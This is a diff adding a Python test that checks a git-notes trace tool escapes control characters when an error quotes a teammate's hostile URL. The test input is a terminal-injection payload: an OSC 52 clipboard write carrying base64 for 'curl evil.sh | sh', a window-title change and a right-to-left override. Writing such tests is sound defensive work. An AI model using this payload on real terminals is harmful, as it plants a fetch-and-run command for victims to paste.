@@ -270,3 +270,20 @@ def test_a_note_url_that_urllib_rejects_is_one_clear_line(env: Env) -> None:
     repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
     proc = env.cli("show", sha, "-C", str(repo.path), check=False)
     assert (proc.returncode, proc.stderr) == (1, "Error: don't know how to fetch https://evil]/buckets/a/b/tree/c\n")
+
+
+def test_an_error_quoting_a_notes_text_spells_its_control_characters_out(env: Env) -> None:
+    """A note is a teammate's (hostile) text; an error that quotes it (a URL nobody can fetch)
+    reaches stderr, a terminal, through the one error table, which spells control characters out."""
+    repo = make_repo(env)
+    sha = repo.commit("x")
+    url = "gopher://evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\u202egnp"
+    meta = {"url": url, "agent": "codex", "session": "s1", "lines": [1, 1], "bytes": 1, "sha256": "0" * 64}
+    repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
+    proc = env.cli("show", sha, "-C", str(repo.path), check=False)
+    assert proc.returncode == 1
+    assert_nothing_reaches_the_terminal(proc.stderr)
+    assert proc.stderr == (
+        "Error: don't know how to fetch gopher://evil\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07"
+        "\\u202egnp\n"
+    )
